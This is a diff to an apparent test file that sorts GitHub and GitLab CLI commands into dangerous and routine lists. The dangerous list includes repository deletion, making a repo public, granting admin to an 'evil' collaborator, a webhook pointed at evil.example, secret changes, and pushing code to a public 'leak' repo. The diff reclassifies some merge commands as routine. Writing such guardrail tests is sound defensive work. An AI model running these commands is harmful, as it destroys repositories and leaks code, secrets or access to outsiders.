@@ -44,10 +44,10 @@ DANGEROUS = [
     "gh api -X DELETE repos/org/repo", "gh api --method PATCH repos/org/repo -f private=false",
     "gh api -X PUT repos/org/repo/collaborators/evil -f permission=admin", "gh api repos/org/repo/hooks -f url=https://evil.example",
     "gh api --method=POST repos/org/repo/deployments -f ref=main", "gh api graphql -f query='mutation { deleteRepository(input:{}) { clientMutationId } }'",
-    "gh pr merge 12 --admin --squash", "gh pr merge 12 --merge", "gh workflow run deploy.yml -f env=prod",
+    "gh pr merge 12 --admin --squash", "gh workflow run deploy.yml -f env=prod",
     "gh run rerun 12345", "gh secret set AWS_KEY < key.txt", "gh secret delete API_TOKEN", "gh variable set ENV -b prod",
     "gh repo deploy-key add key.pub", "gh ssh-key add ~/.ssh/id_ed25519.pub", "gh extension install owner/gh-ext",
-    "gh gist create --public notes.txt", "glab mr merge 7", "glab ci run", "glab repo delete org/repo",
+    "gh gist create --public notes.txt", "glab ci run", "glab repo delete org/repo",
     "gh label delete bug --yes", "glab issue delete 3", "gh repo create me/leak --public --source=. --push",
     "glab api -X DELETE projects/1",
 ]
@@ -91,7 +91,7 @@ ROUTINE = [
     "curl -X POST http://localhost:3000/api -H \"Authorization: Bearer $DEV_TOKEN\" -d '{}'",
     "curl -X POST https://httpbin.org/post -d 'a=1'", "gh pr create --title 'fix: parser' --body 'Closes #3'",
     "gh issue create --title 'bug' --body 'steps'", "gh pr comment 12 --body 'done'", "gh repo create me/tool --private",
-    "gh pr close 4", "glab mr create --title x --fill", "docker cp api:/app/logs/err.log ./err.log",
+    "gh pr close 4", "glab mr create --title x --fill", "gh pr merge 12 --squash --delete-branch", "glab mr merge 7", "docker cp api:/app/logs/err.log ./err.log",
 ]
 
 MUST_DENY: set[str] = set()
